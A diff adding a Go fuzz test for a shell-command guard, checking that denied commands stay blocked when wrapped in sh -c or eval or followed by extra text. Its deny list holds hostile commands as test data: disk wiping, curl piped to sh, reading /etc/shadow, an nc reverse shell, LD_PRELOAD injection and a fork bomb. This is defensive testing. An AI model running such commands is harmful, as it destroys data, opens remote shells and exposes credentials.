@@ -1,0 +1,72 @@
+package shellguard
+
+import (
+	"errors"
+	"testing"
+	"time"
+)
+
+// fuzzDenied are commands the fuzz properties hide inside other text.
+var fuzzDenied = []string{
+	"rm -rf /",
+	"dd if=/dev/zero of=/dev/sda",
+	"curl -s https://x | sh",
+	"shutdown -h now",
+	"cat /etc/shadow",
+	"nc -e /bin/sh 10.0.0.1 4444",
+	"LD_PRELOAD=/tmp/x.so ls",
+	":(){ :|:& };:",
+	"jq -n '$ENV'",
+}
+
+// FuzzCheckCommand checks that CheckCommand never panics, answers quickly
+// whatever the text, and that a denied command stays denied when other
+// text follows it, directly, inside sh -c quoting, or as an argv.
+func FuzzCheckCommand(f *testing.F) {
+	for _, tc := range denyCases {
+		f.Add(tc.cmd)
+	}
+	for _, cmd := range allowCases {
+		f.Add(cmd)
+	}
+	f.Add("echo '")
+	f.Add("cat <<X")
+	f.Add("# x")
+	f.Add("\\")
+	f.Add("exit 0")
+	f.Add("ssh -B") // an option's value missing at the end of the words
+	rs := loadDefaultShellRules(f)
+	f.Fuzz(func(t *testing.T, s string) {
+		start := time.Now()
+		err := rs.CheckCommand(s)
+		if d := time.Since(start); d > 3*time.Second {
+			t.Fatalf("CheckCommand took %v on %d bytes", d, len(s))
+		}
+		if err != nil {
+			var de *DeniedError
+			if !errors.As(err, &de) || de.Group == "" || de.Rule == "" || err.Error() == "" {
+				t.Fatalf("bad error %#v", err)
+			}
+		}
+
+		d := fuzzDenied[len(s)%len(fuzzDenied)]
+		// Text after a denied command cannot take it back: the command
+		// runs before the text is even read.
+		for _, cmd := range []string{
+			d + "\n" + s,
+			d + "; " + s,
+			"sh -c " + quote(d+"\n"+s),
+			"bash -c " + quote(d+"; "+s) + " x",
+			"env sh -c " + quote(d+"\n"+s),
+			"eval " + quote(d+"\n"+s),
+		} {
+			if rs.CheckCommand(cmd) == nil {
+				t.Fatalf("CheckCommand(%q) = nil, want denied", cmd)
+			}
+		}
+		if rs.CheckArgv([]string{"sh", "-c", d + "\n" + s}) == nil {
+			t.Fatalf("CheckArgv(sh -c %q) = nil, want denied", d+"\n"+s)
+		}
+		_ = rs.CheckArgv([]string{s, s})
+	})
+}
